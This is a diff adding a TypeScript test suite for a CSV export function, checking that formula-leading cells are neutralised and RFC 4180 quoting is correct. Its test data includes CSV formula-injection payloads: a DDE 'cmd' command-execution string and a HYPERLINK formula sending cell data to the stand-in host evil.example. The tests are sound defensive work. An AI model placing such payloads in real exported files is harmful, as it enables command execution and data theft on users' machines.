@@ -1,0 +1,70 @@
+import * as fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { toCsv } from '#lambdas/platform/csv.ts';
+
+/** What a reader after RFC 4180 takes from a file. */
+const parse = (csv: string): string[][] => {
+  const rows: string[][] = [[]];
+  for (const [, quoted = '', end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
+    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.slice(0, -1);
+};
+
+describe('a CSV file [S-088, Q-022]', () => {
+  it.each([
+    '=1+1',
+    '+1-800-000',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    '@import',
+    '+972521234567',
+    '-',
+  ])('makes %j text that no spreadsheet runs', (value) => {
+    expect(parse(toCsv([[value]]))).toEqual([[`'${value}`]]);
+  });
+
+  it.each([
+    'dana',
+    'a=b',
+    'name@mail.example',
+    '1-2',
+    'שלום',
+    '',
+    ' ',
+    '"quoted"',
+    'a,b',
+    'a;b',
+    'one\r\ntwo',
+    'one\ntwo',
+  ])('leaves %j as it is', (value) => expect(parse(toCsv([[value]]))).toEqual([[value]]));
+
+  it('gives back whatever was put in, row by row', () => {
+    const rows = fc.array(
+      fc.array(fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;\'ab ש🩰') }), { minLength: 1, maxLength: 4 }),
+      { maxLength: 5 },
+    );
+    fc.assert(
+      fc.property(rows, (table) => {
+        const back = parse(toCsv(table));
+        expect(back).toEqual(
+          table.map((row) => row.map((value) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value))),
+        );
+      }),
+    );
+  });
+
+  it('quotes each cell and ends each row with CR LF', () => {
+    expect(
+      toCsv([
+        ['a', 'b"c'],
+        ['', 'd'],
+      ]),
+    ).toBe('"a","b""c"\r\n"","d"\r\n');
+  });
+});
